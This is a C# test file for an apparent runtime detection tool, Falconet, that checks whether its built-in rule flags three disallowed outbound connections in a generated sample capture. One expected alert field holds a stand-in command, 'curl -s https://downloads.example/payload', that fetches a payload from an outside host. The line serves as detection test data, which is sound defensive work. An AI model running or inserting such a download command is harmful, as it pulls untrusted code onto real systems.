using System.Text.Json;

namespace Falconet.Host.Tests;

/// <summary>The README's first command: the built-in rules on the generated sample capture.</summary>
public sealed class DemoTests
{
    [Fact]
    public void TheBuiltInFlagshipRuleFlagsTheThreeDisallowedDestinationsOfTheSample()
    {
        var stdout = new MemoryStream();
        var err = new StringWriter();
        var console = new ConsoleStreams(new StringWriter(), err, stdout);
        int rc = FalconetCommands.Demo(["json_output=true"], console, CancellationToken.None);
        Assert.Equal(ExitCodes.Success, rc);

        string[] lines = System.Text.Encoding.UTF8.GetString(stdout.ToArray()).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var names = new List<string>();
        foreach (string line in lines)
        {
            using JsonDocument alert = JsonDocument.Parse(line);
            Assert.Equal("Unexpected outbound connection destination", alert.RootElement.GetProperty("rule").GetString());
            JsonElement fields = alert.RootElement.GetProperty("output_fields");
            Assert.Equal("alice", fields.GetProperty("user.name").GetString());
            Assert.Equal(1000, fields.GetProperty("user.loginuid").GetInt64());
            Assert.Equal("host", fields.GetProperty("container.id").GetString());
            Assert.Equal("curl -s https://downloads.example/payload", fields.GetProperty("proc.cmdline").GetString());
            names.Add(fields.GetProperty("fd.name").GetString()!);
        }
        Assert.Equal(
            ["192.0.2.5:40100->198.51.100.10:443", "192.0.2.5:40102->198.51.100.53:53", "2001:db8::5:40106->2001:db8::10:443"],
            names);
        Assert.Contains("Events detected: 3", err.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public void SampleCaptureIsAValidCaptureFile()
    {
        string path = Path.Combine(Path.GetTempPath(), "falconet-sample-test-" + Guid.NewGuid().ToString("N") + ".scap");
        try
        {
            SampleCapture.Write(path);
            using Falconet.Scap.ScapReader reader = Falconet.Scap.ScapReader.Open(path);
            var snapshot = new Falconet.Scap.ScapSnapshot();
            reader.ReadHeader(snapshot);
            var evt = new Falconet.Core.Events.ScapEvent();
            int count = 0;
            while (reader.TryReadEvent(evt))
            {
                count++;
            }
            Assert.Equal(2, snapshot.Threads.Count);
            Assert.True(count > 20);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
